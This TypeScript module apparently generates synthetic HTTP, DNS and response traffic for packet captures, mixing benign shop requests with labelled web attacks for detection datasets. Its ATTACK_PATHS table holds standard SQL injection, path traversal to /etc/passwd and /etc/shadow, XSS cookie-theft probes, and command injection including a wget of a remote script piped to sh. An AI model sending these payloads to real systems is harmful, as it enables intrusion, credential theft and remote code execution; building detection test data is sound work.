// Application payloads, built once per capture from the seeded generator and then only copied:
// browser HTTP requests (whose query strings contain words like "select" or "union" but never
// attack syntax), attack requests, HTTP response heads, text bodies, DNS names and random bytes.

import { Prng } from './prng.js';

/** How the server answers a request: `head` (+ decimal body length + `tail` when there is a body). */
export interface ResponseKind {
  /** Status line and headers, up to and including "Content-Length: " when hasBody. */
  head: Buffer;
  /** "\r\n<more headers>\r\n\r\n" after the length digits (empty when no body). */
  tail: Buffer;
  hasBody: boolean;
  body: Buffer;
  minBody: number;
  maxBody: number;
}

export interface HttpRequest {
  bytes: Buffer;
  resp: ResponseKind;
}

const DATE = 'Thu, 01 Jan 2026 00:00:00 GMT';

export const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
] as const;

const ACCEPT_HTML = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';
const ACCEPT_CSS = 'text/css,*/*;q=0.1';
const ACCEPT_IMG = 'image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8';
const LANGS = ['en-US,en;q=0.9', 'en-GB,en;q=0.8', 'de-DE,de;q=0.9,en;q=0.7', 'fr-FR,fr;q=0.9,en-US;q=0.6', 'pt-BR,pt;q=0.9,en;q=0.5'];

/** Benign pages. Words such as select, union, drop, insert and script appear as ordinary words. */
export const NORMAL_PAGES = [
  '/',
  '/index.html',
  '/search?q=select+a+dress&page=2',
  '/search?q=union+square+restaurants',
  '/search?q=how+to+drop+a+pin+on+a+map',
  '/search?q=insert+coin+arcade+near+me&sort=new',
  '/search?q=script+writing+course&page=1',
  '/search?q=caf%C3%A9+opening+hours',
  '/search?q=table+and+chairs+for+sale&page=4',
  '/products?category=shoes&sort=price_asc&page=3',
  '/products/1234?color=navy&size=M',
  '/products/88217-linen-shirt?ref=homepage',
  '/news?id=4521&ref=home',
  '/news/2025/12/31/year-in-review',
  '/blog/where-to-eat-in-lisbon',
  '/account/orders?page=2&status=shipped',
  '/weather?city=S%C3%A3o+Paulo&units=metric',
  '/help/faq?topic=returns&lang=en',
  '/login?next=%2Faccount%2Forders',
  '/docs/v2/select-query-builder.html',
] as const;

/** XHR calls of a page (small JSON answers). */
export const API_PATHS = [
  '/api/v1/cart?session=9f8e7d6c5b4a&items=3',
  '/api/v1/stock?sku=AB-1029&store=12',
  '/api/v1/notifications?since=1767225000',
  '/api/v1/recommendations?product=1234&limit=4',
  '/api/v1/search/suggest?q=select+a+d',
  '/api/v1/search/suggest?q=union+jack+flag',
  '/api/v1/session/ping',
] as const;

const JSON_BODIES = [
  '{"ok":true}',
  '{"items":3,"total":"84.90","currency":"EUR"}',
  '{"sku":"AB-1029","store":12,"available":7,"reserved":1}',
  '{"notifications":[],"unread":0,"next_poll":60}',
  '{"suggestions":["select a dress","select a dress for a wedding","selection of dresses"],"took_ms":4}',
  '{"products":[{"id":1235,"name":"Linen shirt","price":"39.00"},{"id":1301,"name":"Chino trousers","price":"49.00"},' +
    '{"id":1402,"name":"Canvas belt","price":"19.00"},{"id":1533,"name":"Wool socks","price":"9.00"}],"limit":4}',
];

const CSS_PATHS = ['/static/css/main.3f9a1c.css', '/static/css/print.css', '/assets/theme.min.css'];
const JS_PATHS = ['/static/js/app.8d2e4b.js', '/static/js/vendor.1a2b3c.js', '/assets/analytics.js?v=20251201'];
const IMG_PATHS = ['/images/logo.png', '/images/hero-1920.jpg', '/favicon.ico', '/images/products/1234-navy.webp'];

/** Attack request targets, one list per attack. Encoded as a scanner or a browser would send them. */
export const ATTACK_PATHS = {
  sqli: [
    '/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL%2Cversion()--%20-',
    "/item.php?id=1'+or+'1'='1",
    '/item.php?id=1%20AND%201%3D1',
    '/item.php?id=1%27%20AND%20SLEEP(5)--%20-',
    '/item.php?id=-1%20UNION%20SELECT%201%2Cusername%2Cpassword%20FROM%20users--',
    '/login.php?user=admin%27--&pass=x',
    '/products?cat=2%27)%20OR%20(%271%27%3D%271',
    '/item.php?id=1%20ORDER%20BY%2010--',
    '/search?q=1%27%3B%20DROP%20TABLE%20users--',
    '/item.php?id=1%27%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20user())))--%20-',
  ],
  pathTraversal: [
    '/../../../../etc/passwd',
    '/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/download.php?file=../../../../etc/shadow',
    '/images/..%252f..%252f..%252fetc%252fpasswd',
    '/index.php?page=....//....//....//etc/passwd',
    '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/windows/win.ini',
    '/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
  ],
  cmdInjection: [
    '/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd',
    '/ping.php?host=127.0.0.1%7C%7Cid',
    '/cgi-bin/status?ip=8.8.8.8%26%26uname%20-a',
    '/ping.php?host=%60whoami%60',
    '/api/exec?cmd=%24(cat%20/etc/passwd)',
    '/ping.php?host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.99%2Fx.sh%20-O-%7Csh',
  ],
  xss: [
    '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
    '/comment?text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
    '/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E',
    '/profile?name=javascript%3Aalert(1)',
    '/search?q=%3CsCrIpT%3Ealert(String.fromCharCode(88%2C83%2C83))%3C%2FsCrIpT%3E',
  ],
} as const;

export type WebAttack = keyof typeof ATTACK_PATHS;

const ATTACK_AGENTS: Record<WebAttack, readonly string[]> = {
  sqli: ['sqlmap/1.8.2#stable (https://sqlmap.org)'],
  pathTraversal: ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000117)', 'curl/8.5.0'],
  cmdInjection: ['curl/8.5.0', 'python-requests/2.31.0'],
  xss: ['Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0', 'python-requests/2.31.0'],
};

/** Host names of the web servers, by address (unknown addresses get their address as Host). */
export const HOST_NAMES: Record<string, string> = {
  '10.0.1.10': 'shop.example.com',
  '10.0.1.11': 'intranet.example.com',
  '10.0.1.12': 'wiki.example.com',
  '198.18.0.80': 'www.example.org',
  '198.18.3.17': 'news.example.net',
  '198.19.20.5': 'cdn.example.net',
  '2001:db8:80::10': 'www.example.org',
  '2001:db8:443::20': 'api.example.net',
};

/** DNS names clients resolve (all under example.* domains). */
export const DNS_NAMES = [
  'www.example.com',
  'shop.example.com',
  'intranet.example.com',
  'wiki.example.com',
  'www.example.org',
  'news.example.net',
  'cdn.example.net',
  'api.example.net',
  'mail.example.com',
  'updates.example.org',
  'time.example.org',
  'login.example.com',
  'static.example.net',
  'telemetry.example.org',
] as const;

const LOREM = (
  'the quick brown fox jumps over lazy dog while our team ships linen shirts navy blue sizes small ' +
  'medium large free returns within thirty days order tracking gift cards store locator newsletter ' +
  'privacy terms contact support shipping rates weekend sale new arrivals best sellers reviews rating'
).split(' ');

function textPool(rng: Prng, kind: 'html' | 'css' | 'js', size: number): Buffer {
  let s = '';
  if (kind === 'html') {
    s = '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Example Shop</title>' +
      '<link rel="stylesheet" href="/static/css/main.3f9a1c.css"></head>\n<body>\n';
    while (s.length < size) {
      s += '<div class="card"><h2>';
      for (let i = 0; i < 3; i++) s += rng.pick(LOREM) + ' ';
      s += '</h2><p>';
      const n = rng.range(12, 40);
      for (let i = 0; i < n; i++) s += rng.pick(LOREM) + ' ';
      s += `</p><a href="/products/${rng.range(1000, 99999)}">more</a></div>\n`;
    }
  } else if (kind === 'css') {
    while (s.length < size) {
      s +=
        `.${rng.pick(LOREM)}-${rng.range(1, 99)}{margin:${rng.range(0, 32)}px;padding:${rng.range(0, 16)}px;` +
        `color:#${rng.u32().toString(16).padStart(8, '0').slice(0, 6)}}\n`;
    }
  } else {
    while (s.length < size) {
      s += `function ${rng.pick(LOREM)}${rng.range(1, 999)}(e){return e&&e.${rng.pick(LOREM)}?e.${rng.pick(LOREM)}(${rng.range(0, 9)}):null}\n`;
    }
  }
  return Buffer.from(s.slice(0, size), 'latin1');
}

function responseKind(status: string, type: string | null, body: Buffer, minBody: number, maxBody: number, close = false): ResponseKind {
  const conn = close ? 'close' : 'keep-alive';
  if (type === null) {
    const head = `HTTP/1.1 ${status}\r\nServer: nginx/1.24.0\r\nDate: ${DATE}\r\nETag: "6750c1a2-2f1c"\r\nConnection: ${conn}\r\n\r\n`;
    return { head: Buffer.from(head, 'latin1'), tail: Buffer.alloc(0), hasBody: false, body, minBody: 0, maxBody: 0 };
  }
  const head = `HTTP/1.1 ${status}\r\nServer: nginx/1.24.0\r\nDate: ${DATE}\r\nContent-Type: ${type}\r\nContent-Length: `;
  const tail = `\r\nConnection: ${conn}\r\nCache-Control: max-age=600\r\n\r\n`;
  return { head: Buffer.from(head, 'latin1'), tail: Buffer.from(tail, 'latin1'), hasBody: true, body, minBody, maxBody };
}

/** Response body size for normal pages: mostly small, sometimes large (bytes). */
function pageSizes(kind: 'page' | 'css' | 'js'): [number, number] {
  if (kind === 'css') return [800, 6000];
  if (kind === 'js') return [1500, 14000];
  return [300, 9000];
}

/** Every payload of a capture, built once from the seed. */
export class Payloads {
  readonly html: Buffer;
  readonly css: Buffer;
  readonly js: Buffer;
  /** Random bytes: TLS record contents. */
  readonly noise: Buffer;
  /** 'X' bytes, as hping3 fills its data: flood payloads (random bytes would trip dissector heuristics). */
  readonly filler = Buffer.alloc(1500, 0x58);
  /** Normal requests, per server address. */
  readonly requests = new Map<string, HttpRequest[]>();
  /** Attack requests, per attack, per server address (built on first use). */
  private readonly attacks = new Map<string, HttpRequest[]>();
  readonly attackResponses: Record<WebAttack, ResponseKind[]>;
  /** DNS names in wire format. */
  readonly dnsNames: Buffer[];
  private readonly rng: Prng;

  constructor(rng: Prng) {
    this.rng = rng;
    this.html = textPool(rng, 'html', 32768);
    this.css = textPool(rng, 'css', 16384);
    this.js = textPool(rng, 'js', 32768);
    this.noise = Buffer.alloc(65536);
    for (let i = 0; i < this.noise.length; i += 4) this.noise.writeUInt32LE(rng.u32(), i);
    const small = (status: string, min: number, max: number): ResponseKind =>
      responseKind(status, 'text/html; charset=utf-8', this.html, min, max, true);
    this.attackResponses = {
      sqli: [small('200 OK', 300, 1400), small('500 Internal Server Error', 180, 400)],
      pathTraversal: [small('404 Not Found', 150, 300), small('400 Bad Request', 150, 300), small('403 Forbidden', 150, 300)],
      cmdInjection: [small('200 OK', 200, 700), small('403 Forbidden', 150, 300)],
      xss: [small('200 OK', 400, 1400)],
    };
    this.dnsNames = DNS_NAMES.map(dnsWireName);
  }

  /** The normal request templates for a server (built on first use, deterministically). */
  normalRequests(server: string): HttpRequest[] {
    let list = this.requests.get(server);
    if (list) return list;
    const rng = this.rng;
    const host = HOST_NAMES[server] ?? (server.includes(':') ? `[${server}]` : server);
    const kinds = {
      page: responseKind('200 OK', 'text/html; charset=utf-8', this.html, ...pageSizes('page')),
      css: responseKind('200 OK', 'text/css', this.css, ...pageSizes('css')),
      js: responseKind('200 OK', 'application/javascript', this.js, ...pageSizes('js')),
      img: responseKind('304 Not Modified', null, this.html, 0, 0),
    };
    const json = JSON_BODIES.map((text) => {
      const body = Buffer.from(text, 'latin1');
      return responseKind('200 OK', 'application/json', body, body.length, body.length);
    });
    list = [];
    for (let i = 0; i < 48; i++) {
      const r = rng.float();
      const ua = rng.pick(USER_AGENTS);
      const lang = rng.pick(LANGS);
      const cookie =
        `session=${hex(rng, 16)}; _ga=GA1.1.${rng.range(100000000, 999999999)}.${rng.range(1700000000, 1767000000)}; ` +
        `theme=${rng.pick(['light', 'dark'])}`;
      let path: string;
      let accept: string;
      let kind: ResponseKind;
      if (r < 0.4) {
        path = rng.pick(NORMAL_PAGES);
        accept = ACCEPT_HTML;
        kind = kinds.page;
      } else if (r < 0.6) {
        path = rng.pick(API_PATHS);
        accept = 'application/json, text/plain, */*';
        kind = rng.pick(json);
      } else if (r < 0.7) {
        path = rng.pick(CSS_PATHS);
        accept = ACCEPT_CSS;
        kind = kinds.css;
      } else if (r < 0.8) {
        path = rng.pick(JS_PATHS);
        accept = '*/*';
        kind = kinds.js;
      } else {
        path = rng.pick(IMG_PATHS);
        accept = ACCEPT_IMG;
        kind = kinds.img;
      }
      let text = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: ${accept}\r\n` +
        `Accept-Language: ${lang}\r\nAccept-Encoding: gzip, deflate, br\r\n`;
      if (path !== '/') text += `Referer: http://${host}/\r\n`;
      text += `Cookie: ${cookie}\r\n`;
      if (kind === kinds.img) text += `If-None-Match: "6750c1a2-2f1c"\r\n`;
      text += 'Connection: keep-alive\r\n\r\n';
      list.push({ bytes: Buffer.from(text, 'latin1'), resp: kind });
    }
    this.requests.set(server, list);
    return list;
  }

  /** The requests of one web attack against a server, in the order the attacker sends them. */
  attackRequests(attack: WebAttack, server: string): HttpRequest[] {
    const key = `${attack} ${server}`;
    let list = this.attacks.get(key);
    if (list) return list;
    const host = HOST_NAMES[server] ?? server;
    const agents = ATTACK_AGENTS[attack];
    const resps = this.attackResponses[attack];
    list = ATTACK_PATHS[attack].map((path, i) => {
      const ua = agents[i % agents.length];
      let text = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\n`;
      if (attack === 'sqli') text += 'Accept-Encoding: gzip,deflate\r\nCache-Control: no-cache\r\n';
      text += 'Connection: close\r\n\r\n';
      return { bytes: Buffer.from(text, 'latin1'), resp: resps[i % resps.length] };
    });
    this.attacks.set(key, list);
    return list;
  }
}

function hex(rng: Prng, n: number): string {
  let s = '';
  while (s.length < n) s += rng.u32().toString(16).padStart(8, '0');
  return s.slice(0, n);
}

/** "www.example.com" → 3www7example3com0 */
export function dnsWireName(name: string): Buffer {
  const parts = name.split('.');
  const out = Buffer.alloc(name.length + 2);
  let p = 0;
  for (const part of parts) {
    out[p++] = part.length;
    out.write(part, p, 'latin1');
    p += part.length;
  }
  out[p] = 0;
  return out;
}

/** Writes the decimal digits of a non-negative integer at buf[off..]; returns the digit count. */
export function writeDecimal(buf: Buffer, off: number, n: number): number {
  let digits = 1;
  for (let v = n; v >= 10; v = Math.floor(v / 10)) digits++;
  for (let i = digits - 1, v = n; i >= 0; i--, v = Math.floor(v / 10)) buf[off + i] = 48 + (v % 10);
  return digits;
}

export function decimalLength(n: number): number {
  let digits = 1;
  for (let v = n; v >= 10; v = Math.floor(v / 10)) digits++;
  return digits;
}
